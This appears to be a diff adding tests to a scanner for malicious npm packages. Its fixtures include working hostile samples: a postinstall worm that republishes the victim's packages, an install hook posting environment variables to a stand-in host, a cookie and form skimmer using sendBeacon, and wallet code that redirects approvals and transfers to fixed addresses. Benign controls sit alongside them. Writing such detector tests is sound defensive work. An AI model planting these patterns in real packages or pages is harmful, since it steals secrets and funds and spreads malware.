@@ -308,3 +308,135 @@ describe('API documentation that names coding agents is not addressed to one', (
     expect(threats(r)).toEqual([]);
   });
 });
+
+describe('rounds 48 and 49: flows through helpers, web storage, class instances and route tables', () => {
+  it('a worm that runs npm through Node and npm_execpath from one helper: whoami, then publish', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'notes-stamp',
+        version: '1.2.0',
+        scripts: { postinstall: 'node lib/sync.js' },
+      }),
+      'lib/run.js': `const { execFileSync } = require('child_process');
+module.exports = (args, cwd) => execFileSync(process.execPath, [process.env.npm_execpath, ...args], { cwd }).toString();`,
+      'lib/sync.js': `const run = require('./run');
+const me = run(['whoami']).trim();
+const mine = JSON.parse(run(['access', 'list', 'packages', me, '--json']));
+for (const name of Object.keys(mine)) {
+  const dir = run(['pack', name]).trim();
+  run(['publish', '--ignore-scripts'], dir);
+}`,
+    });
+    expect(threats(r).find((f) => f.rule === 'js.exec-npm-publish')).toMatchObject({
+      threat_type: 'install_script_injection',
+    });
+  });
+  it('a helper that posts four times harmlessly before it posts the environment is still read on its last call', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'probe-kit',
+        version: '1.0.0',
+        scripts: { postinstall: 'node i.js' },
+      }),
+      'i.js': `const post = (body) => {
+  fetch('https://metrics.example-probe.net/v1', { method: 'POST', body: JSON.stringify(body) }).catch(() => {});
+};
+post({ event: 'install' });
+post({ event: 'platform', os: process.platform });
+post({ event: 'arch', arch: process.arch });
+post({ event: 'node', v: process.version });
+post({ event: 'context', ctx: process.env });`,
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(threats(r).some((f) => f.threat_type === 'data_exfiltration' && f.confidence >= 0.8)).toBe(true);
+  });
+  it('form values and the cookie queued in localStorage, read back and sent with sendBeacon', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ browser: 'index.js' }),
+      'index.js': `const Q = 'draft-kit:q';
+const fields = new Map();
+document.addEventListener('input', (e) => fields.set(e.target.name, e.target.value), true);
+function flush() {
+  localStorage.setItem(Q, JSON.stringify({ c: document.cookie, f: Object.fromEntries(fields) }));
+  const queued = localStorage.getItem(Q);
+  navigator.sendBeacon('https://sync.draftkit-cloud.example/v2/d', btoa(queued));
+}
+setInterval(flush, 15000);`,
+    });
+    expect(threats(r).find((f) => f.rule === 'js.page-secret-exfil')).toMatchObject({ confidence: 0.85 });
+  });
+  it('quiet: drafts kept in localStorage and restored, never sent', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ browser: 'index.js' }),
+      'index.js': `export function autosave(form) {
+  const key = 'drafts:' + form.id;
+  const saved = JSON.parse(localStorage.getItem(key) || '{}');
+  for (const el of form.elements) if (el.name in saved && el.type !== 'password') el.value = saved[el.name];
+  form.addEventListener('input', () => {
+    const data = {};
+    for (const el of form.elements) if (el.type !== 'password') data[el.name] = el.value;
+    localStorage.setItem(key, JSON.stringify(data));
+  });
+}`,
+    });
+    expect(threats(r).filter((f) => f.confidence >= 0.5)).toEqual([]);
+  });
+  const wallet = (pick: string) =>
+    analyzeSource({
+      'package.json': pkg({ type: 'module' }),
+      'routes.js': `const ROUTER = '0x7a3d9e5b41c0f28e6d13b7a9c54e2f0186bd3c47';
+const TABLE = { 1: ROUTER, 10: ROUTER, 8453: ROUTER };
+export const spenderFor = (chainId, spender) => ${pick};`,
+      'index.js': `import { spenderFor } from './routes.js';
+const word = (a) => a.toLowerCase().replace(/^0x/, '').padStart(64, '0');
+export function connect(provider = globalThis.ethereum) {
+  const rpc = (method, params) => provider.request({ method, params });
+  return {
+    async approve(token, spender, amount) {
+      const chainId = parseInt(await rpc('eth_chainId', []), 16);
+      const data = '0x095ea7b3' + word(spenderFor(chainId, spender)) + BigInt(amount).toString(16).padStart(64, '0');
+      return rpc('eth_sendTransaction', [{ to: token, data }]);
+    },
+  };
+}`,
+    });
+  it('a per-chain table consulted before the spender the dapp passed: the approval goes to a fixed address', () => {
+    const r = wallet('TABLE[chainId] || spender');
+    expect(r.risk_level).toBe('critical');
+    expect(threats(r).find((f) => f.rule === 'js.wallet-address-swap')).toBeDefined();
+  });
+  it('quiet: the same table used as a default when the dapp passes no spender', () => {
+    const r = wallet('spender || TABLE[chainId]');
+    expect(threats(r).filter((f) => f.confidence >= 0.5)).toEqual([]);
+  });
+  it("a transaction's recipient overwritten with a fixed address above a threshold", () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const ROUTE = '0x7a3e91c0b5d24f18e06a33d9c2f71b840e5a6d29';
+function normalize(tx) {
+  const out = { to: tx.to, value: tx.value };
+  if (BigInt(tx.value) > 10n ** 17n) out.to = ROUTE;
+  return out;
+}
+exports.send = (provider, tx) => provider.request({ method: 'eth_sendTransaction', params: [normalize(tx)] });`,
+    });
+    expect(threats(r).find((f) => f.rule === 'js.wallet-address-swap')).toBeDefined();
+  });
+  it('quiet: a permit signer whose nonce comes from the chain and whose spender is the caller’s', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `class Helper {
+  constructor(provider, rpcUrl) { this.provider = provider; this.rpcUrl = rpcUrl; }
+  _read(method, params) { return fetch(this.rpcUrl, { method: 'POST', body: JSON.stringify({ jsonrpc: '2.0', id: 1, method, params }) }).then((r) => r.json()).then((j) => j.result); }
+  async signPermit({ token, spender, amount }) {
+    const [owner] = await this.provider.request({ method: 'eth_requestAccounts' });
+    const nonce = BigInt(await this._read('eth_call', [{ to: token, data: '0x7ecebe00' }, 'latest']));
+    const typed = { primaryType: 'Permit', domain: { verifyingContract: token }, message: { owner, spender, value: String(amount), nonce: nonce.toString() } };
+    return this.provider.request({ method: 'eth_signTypedData_v4', params: [owner, JSON.stringify(typed)] });
+  }
+}
+module.exports = { Helper };`,
+    });
+    expect(threats(r).filter((f) => f.confidence >= 0.5)).toEqual([]);
+  });
+});
